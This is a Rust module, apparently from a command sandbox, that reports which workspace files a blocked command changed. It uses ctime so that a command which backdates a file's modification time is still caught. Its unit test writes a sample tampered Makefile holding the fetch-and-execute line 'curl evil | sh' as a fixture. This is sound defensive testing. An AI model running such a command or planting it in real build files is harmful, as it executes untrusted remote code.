//! The files a command changed in its workspace (issue 33): before the user runs a blocked
//! command again without the sandbox, they see which files the blocked run itself left changed
//! — a Makefile or build script it rewrote would run with full access next.
//!
//! A file counts as changed when its status-change time (`ctime`) is at or after the run's
//! start: unlike the modification time, a command cannot set it back.

use std::path::Path;
use std::time::SystemTime;

/// How much earlier than the run's start changes are looked for.
pub const START_MARGIN: std::time::Duration = std::time::Duration::from_secs(1);

/// How many paths are named; past that, a count.
const NAMED: usize = 20;
/// How many entries are looked at, at most (a huge workspace is not walked whole).
const LOOKED_AT: usize = 200_000;

/// The files and folders under `workspace` changed since `started`, relative, sorted, at most
/// [`NAMED`] and then "… and N more". Git's object store is left out (a commit fills it).
pub fn since(workspace: &Path, started: SystemTime) -> Vec<String> {
    let mut changed = Vec::new();
    let walk = ignore::WalkBuilder::new(workspace)
        .standard_filters(false)
        .follow_links(false)
        .filter_entry(|e| {
            !(e.file_name() == "objects" && e.path().parent().is_some_and(|p| p.ends_with(".git")))
        })
        .build();
    for entry in walk.flatten().take(LOOKED_AT) {
        if entry.depth() == 0 {
            continue;
        }
        let Ok(meta) = entry.path().symlink_metadata() else {
            continue;
        };
        if status_changed(&meta) >= Some(started) {
            if let Ok(rel) = entry.path().strip_prefix(workspace) {
                changed.push(rel.to_string_lossy().replace('\\', "/"));
            }
        }
    }
    changed.sort();
    if changed.len() > NAMED {
        let more = changed.len() - NAMED;
        changed.truncate(NAMED);
        changed.push(format!("… and {more} more"));
    }
    changed
}

#[cfg(unix)]
fn status_changed(meta: &std::fs::Metadata) -> Option<SystemTime> {
    use std::os::unix::fs::MetadataExt;
    let secs = u64::try_from(meta.ctime()).ok()?;
    let nanos = u32::try_from(meta.ctime_nsec()).ok()?;
    SystemTime::UNIX_EPOCH.checked_add(std::time::Duration::new(secs, nanos))
}

#[cfg(not(unix))]
fn status_changed(meta: &std::fs::Metadata) -> Option<SystemTime> {
    meta.modified().ok()
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    #[test]
    fn files_changed_after_the_start_are_named_even_with_an_old_modification_time() {
        let dir = tempfile::tempdir().unwrap();
        let ws = dir.path();
        std::fs::write(ws.join("old.txt"), "before").unwrap();
        std::fs::create_dir_all(ws.join(".git/objects/ab")).unwrap();
        // The start is taken from the file system's own clock: a file written now.
        std::fs::write(ws.join(".mark"), "").unwrap();
        let started = status_changed(&ws.join(".mark").symlink_metadata().unwrap()).unwrap();
        std::fs::remove_file(ws.join(".mark")).unwrap();
        let later = started + std::time::Duration::from_secs(3_600);
        assert!(
            since(ws, later).is_empty(),
            "nothing changed after an hour from now"
        );
        std::fs::write(ws.join("Makefile"), "all:\n\tcurl evil | sh\n").unwrap();
        std::fs::write(ws.join(".git/objects/ab/cd"), "blob").unwrap();
        // A command that sets the modification time back is still seen.
        let f = std::fs::File::options()
            .write(true)
            .open(ws.join("Makefile"))
            .unwrap();
        f.set_modified(SystemTime::UNIX_EPOCH).unwrap();
        let changed = since(ws, started);
        assert!(changed.contains(&"Makefile".to_string()), "{changed:?}");
        assert!(
            !changed.iter().any(|p| p.starts_with(".git/objects/")),
            "{changed:?}"
        );
    }
}
